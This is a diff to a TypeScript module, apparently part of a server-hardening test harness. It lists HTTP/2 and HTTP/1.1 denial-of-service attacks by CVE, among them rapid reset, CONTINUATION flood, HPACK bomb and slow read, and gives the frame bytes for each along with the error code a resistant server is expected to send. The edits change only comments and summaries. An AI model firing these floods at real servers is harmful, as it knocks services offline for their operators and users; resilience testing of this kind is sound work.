@@ -1,4 +1,4 @@
-/** Attacks by name, most of them on HTTP/2. Each is the bytes that a connection sends; attacker.ts sends them, as often as it can. */
+/** Attacks by name, most of them on HTTP/2. Each defines the bytes of one connection; attacker.ts sends them as fast as it can. */
 import {
   CANCEL,
   CONTINUATION,
@@ -20,21 +20,21 @@ import {
 
 export interface Attack {
   readonly name: string;
-  /** Where it became known. */
+  /** Where the attack was published. */
   readonly cve: string;
-  /** What the peer does, and what it costs a server that is not prepared. */
+  /** What the attacker does, and what it costs an unprepared server. */
   readonly summary: string;
-  /** Connections at a time; 1 where it does not say. */
+  /** Concurrent connections; default: 1. */
   readonly connections?: number;
-  /** It speaks HTTP/1.1. */
+  /** The attack uses HTTP/1.1. */
   readonly http1?: true;
-  /** What it sends once, in HTTP/2 after its SETTINGS. */
+  /** Sent once; in HTTP/2 after SETTINGS. */
   readonly opening?: Buffer;
-  /** What it sends again and again; `n` from 0 on. Without it, it only waits. */
+  /** Sent repeatedly, with `n` counting from 0. Absent: the attacker only waits. */
   readonly round?: (n: number) => Buffer;
-  /** It reads nothing of what it is sent. */
+  /** The attacker never reads. */
   readonly deaf?: true;
-  /** The error code with which its connection ends; "" = it is served like others. */
+  /** The error code of the GOAWAY that ends the connection; "" = it is served like any other. */
   readonly ends: string;
 }
 
@@ -71,7 +71,7 @@ const WHOLE = END_HEADERS | END_STREAM;
 /** The n-th stream of a client. */
 const stream = (n: number) => 2 * n + 1;
 
-/** Ways to make a server reset a stream that is still being worked on, by frames that are wrong on it. */
+/** Invalid frames, each of which makes a server reset a stream that it is still working on. */
 const PROVOCATIONS: readonly ((id: number) => Buffer)[] = [
   (id) => frame(WINDOW_UPDATE, 0, id, uint32(0)),
   (id) => frame(WINDOW_UPDATE, 0, id, uint32(MAX_WINDOW)),
@@ -94,7 +94,7 @@ export const ATTACKS: readonly Attack[] = [
   {
     name: "rapid-reset",
     cve: "CVE-2023-44487",
-    summary: "requests that are cancelled at once, so that they do not count as concurrent",
+    summary: "requests cancelled at once, so that they do not count as concurrent",
     round: (n) =>
       Buffer.concat([frame(HEADERS, WHOLE, stream(n), GET), frame(RST_STREAM, 0, stream(n), uint32(CANCEL))]),
     ends: "ENHANCE_YOUR_CALM",
@@ -112,7 +112,7 @@ export const ATTACKS: readonly Attack[] = [
   {
     name: "malformed-requests",
     cve: "CVE-2019-9514",
-    summary: "requests that are malformed, each of which has to be reset",
+    summary: "malformed requests, each of which must be reset",
     round: (n) => frame(HEADERS, WHOLE, stream(n), Buffer.concat([GET, field("X-Upper", "case")])),
     ends: "ENHANCE_YOUR_CALM",
   },
@@ -126,7 +126,7 @@ export const ATTACKS: readonly Attack[] = [
   {
     name: "wrong-length",
     cve: "CVE-2025-8671",
-    summary: "bodies longer than announced, so that the request is reset after its backend has got it",
+    summary: "bodies longer than announced, so that each request is reset after it has reached its backend",
     round: (n) =>
       Buffer.concat([
         frame(HEADERS, END_HEADERS, stream(n), Buffer.concat([POST, field("content-length", "1")])),
@@ -137,7 +137,7 @@ export const ATTACKS: readonly Attack[] = [
   {
     name: "continuation-flood",
     cve: "CVE-2024-27316",
-    summary: "a field block that never ends, and is kept until it does",
+    summary: "a field block that never ends and is buffered meanwhile",
     opening: frame(HEADERS, END_STREAM, 1, GET),
     round: (n) => frame(CONTINUATION, 0, 1, field("x-fill", String(n))),
     ends: "ENHANCE_YOUR_CALM",
@@ -145,7 +145,7 @@ export const ATTACKS: readonly Attack[] = [
   {
     name: "empty-continuations",
     cve: "CVE-2024-27316",
-    summary: "as before, without bytes: limits of size do not see it",
+    summary: "the same with empty frames, which no size limit catches",
     opening: frame(HEADERS, END_STREAM, 1, GET),
     round: () => frame(CONTINUATION, 0, 1),
     ends: "ENHANCE_YOUR_CALM",
@@ -153,21 +153,21 @@ export const ATTACKS: readonly Attack[] = [
   {
     name: "settings-flood",
     cve: "CVE-2019-9515",
-    summary: "SETTINGS, each of which has to be acknowledged",
+    summary: "SETTINGS, each of which must be acknowledged",
     round: () => frame(SETTINGS, 0, 0),
     ends: "ENHANCE_YOUR_CALM",
   },
   {
     name: "ping-flood",
     cve: "CVE-2019-9512",
-    summary: "PINGs, each of which has to be answered",
+    summary: "PINGs, each of which must be answered",
     round: () => frame(PING, 0, 0, Buffer.alloc(8)),
     ends: "ENHANCE_YOUR_CALM",
   },
   {
     name: "empty-frames",
     cve: "CVE-2019-9518",
-    summary: "DATA without data: windows do not limit it",
+    summary: "empty DATA, which windows do not limit",
     opening: frame(HEADERS, END_HEADERS, 1, POST),
     round: () => frame(DATA, 0, 1),
     ends: "ENHANCE_YOUR_CALM",
@@ -175,43 +175,43 @@ export const ATTACKS: readonly Attack[] = [
   {
     name: "unknown-frames",
     cve: "CVE-2019-9518",
-    summary: "frames of an unknown type, which have to be skipped",
+    summary: "frames of an unknown type, which must be skipped",
     round: () => frame(0xbe, 0, 0, Buffer.alloc(4)),
     ends: "ENHANCE_YOUR_CALM",
   },
   {
     name: "priority-flood",
     cve: "CVE-2019-9513",
-    summary: "PRIORITY, which rearranges the tree of streams where there is one",
+    summary: "PRIORITY, which rearranges the stream tree of servers that have one",
     round: (n) => frame(PRIORITY, 0, stream(n % 1000), Buffer.concat([uint32(stream(1000)), Buffer.of(n & 0xff)])),
     ends: "ENHANCE_YOUR_CALM",
   },
   {
     name: "priority-update-flood",
     cve: "CVE-2019-9513",
-    summary: "the same with the frame of RFC 9218",
+    summary: "the same with PRIORITY_UPDATE of RFC 9218",
     round: (n) => frame(PRIORITY_UPDATE, 0, 0, Buffer.concat([uint32(stream(n % 1000)), Buffer.from(`u=${n % 8}`)])),
     ends: "ENHANCE_YOUR_CALM",
   },
   {
     name: "window-update-flood",
     cve: "CVE-2019-9511",
-    summary: "credit byte by byte, of which nothing is used",
+    summary: "WINDOW_UPDATE byte by byte, for windows that nothing uses",
     round: () => frame(WINDOW_UPDATE, 0, 0, uint32(1)),
     ends: "ENHANCE_YOUR_CALM",
   },
   {
     name: "zero-credit",
     cve: "RFC 9113 6.9",
-    summary: "credit of 0 for the connection",
+    summary: "WINDOW_UPDATE of 0 for the connection",
     opening: frame(WINDOW_UPDATE, 0, 0, uint32(0)),
     ends: "PROTOCOL_ERROR",
   },
   {
     name: "hpack-bomb",
     cve: "CVE-2016-6581",
-    summary: "heads of 12 KB that become 48 MB, by references to one large entry",
-    // Credit for the answers.
+    summary: "heads of 12 KB that expand to 48 MB through references to one large entry",
+    // Window for the responses.
     opening: Buffer.concat([frame(WINDOW_UPDATE, 0, 0, uint32(MAX_WINDOW - 65_535)), frame(HEADERS, WHOLE, 1, BOMB)]),
     round: (n) => frame(HEADERS, WHOLE, stream(n + 1), BOMBS),
     ends: "",
@@ -219,7 +219,7 @@ export const ATTACKS: readonly Attack[] = [
   {
     name: "data-dribble",
     cve: "CVE-2019-9511",
-    summary: "a large response that has to be sent in frames of one byte",
+    summary: "a large response that must be sent in frames of one byte",
     opening: Buffer.concat([
       frame(SETTINGS, 0, 0, Buffer.concat([Buffer.of(0, INITIAL_WINDOW_SIZE), uint32(0)])),
       frame(HEADERS, WHOLE, 1, LARGE),
@@ -230,7 +230,7 @@ export const ATTACKS: readonly Attack[] = [
   {
     name: "slow-read",
     cve: "CVE-2019-9517",
-    summary: "a hundred large responses with all windows open, and nothing is read",
+    summary: "a hundred large responses with all windows open, of which nothing is read",
     opening: UNREAD,
     deaf: true,
     ends: "",
@@ -247,7 +247,7 @@ export const ATTACKS: readonly Attack[] = [
   {
     name: "slow-readers-http1",
     cve: "CWE-400",
-    summary: "large responses of HTTP/1.1 of which nothing is read, each on a connection",
+    summary: "large HTTP/1.1 responses, one per connection, of which nothing is read",
     connections: 200,
     http1: true,
     opening: Buffer.from("GET /large HTTP/1.1\r\nHost: a.example\r\n\r\n"),
